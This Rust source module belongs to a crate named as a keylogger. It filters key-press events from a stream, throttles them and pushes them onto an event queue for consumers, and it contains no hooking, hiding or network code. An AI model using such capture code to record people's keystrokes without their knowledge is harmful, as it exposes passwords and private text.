//! Turns key presses into [`CapturedEvent`]s and pushes them onto the [`EventQueue`].

use crate::event::CapturedEvent;
use crate::keyboard::{KeyEvent, KeyEventCause};
use crate::queue::EventQueue;
use crate::KeyloggerResult;
use futures::{ready, Stream, StreamExt};
use pin_project::pin_project;
use std::future::Future;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;
use tokio::task::JoinHandle;
use tokio::time::Sleep;
use tokio_util::sync::CancellationToken;

/// The default pause after each captured key press.
pub const DEFAULT_THROTTLE: Duration = Duration::from_millis(50);

/// Reads key events and feeds the key presses to the queue. Does no I/O of its own.
#[derive(Debug, Clone)]
pub struct CaptureSource {
    queue: EventQueue,
    throttle: Duration,
}

impl CaptureSource {
    /// Create a capture source that waits `throttle` after each key press before accepting the
    /// next one.
    pub fn new(queue: EventQueue, throttle: Duration) -> Self {
        Self { queue, throttle }
    }

    /// Capture key presses from `keys` until the stream ends or `shutdown` is cancelled.
    ///
    /// Read errors are logged and skipped without triggering the throttle. Returns the number of
    /// captured key presses.
    pub async fn run<S>(self, keys: S, shutdown: CancellationToken) -> KeyloggerResult<u64>
    where
        S: Stream<Item = KeyloggerResult<KeyEvent>>,
    {
        let presses = Throttled::new(keys.filter_map(press), self.throttle);
        tokio::pin!(presses);

        let mut captured = 0;

        loop {
            let ev = tokio::select! {
                biased;

                _ = shutdown.cancelled() => break,
                ev = presses.next() => match ev {
                    Some(ev) => ev,
                    None => break,
                },
            };

            let consumers = self.queue.push(ev);
            captured += 1;
            tracing::trace!(consumers, "captured key press");
        }

        tracing::debug!(captured, "capture stopped");

        Ok(captured)
    }

    /// Run the capture on its own task.
    pub fn spawn<S>(self, keys: S, shutdown: CancellationToken) -> JoinHandle<KeyloggerResult<u64>>
    where
        S: Stream<Item = KeyloggerResult<KeyEvent>> + Send + 'static,
    {
        tokio::spawn(self.run(keys, shutdown))
    }
}

/// Keep key presses, drop releases and read errors.
async fn press(ev: KeyloggerResult<KeyEvent>) -> Option<CapturedEvent> {
    match ev {
        Ok(ev) if ev.cause == KeyEventCause::Press => Some(CapturedEvent::from(&ev)),
        Ok(_) => None,
        Err(e) => {
            // Ignore the error and keep on logging
            tracing::warn!(error = %e, "failed to read key events");
            None
        }
    }
}

/// A stream adaptor that waits a fixed delay after every item before polling the inner stream
/// again.
#[pin_project]
#[derive(Debug)]
pub struct Throttled<S> {
    #[pin]
    inner: S,
    #[pin]
    delay: Sleep,
    period: Duration,
    armed: bool,
}

impl<S: Stream> Throttled<S> {
    pub fn new(inner: S, period: Duration) -> Self {
        Self {
            inner,
            delay: tokio::time::sleep(Duration::ZERO),
            period,
            armed: false,
        }
    }
}

impl<S: Stream> Stream for Throttled<S> {
    type Item = S::Item;

    fn poll_next(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Self::Item>> {
        let mut this = self.project();

        if *this.armed {
            ready!(this.delay.as_mut().poll(cx));
            *this.armed = false;
        }

        let item = ready!(this.inner.poll_next(cx));

        if item.is_some() && !this.period.is_zero() {
            let deadline = tokio::time::Instant::now() + *this.period;
            this.delay.reset(deadline);
            *this.armed = true;
        }

        Poll::Ready(item)
    }
}
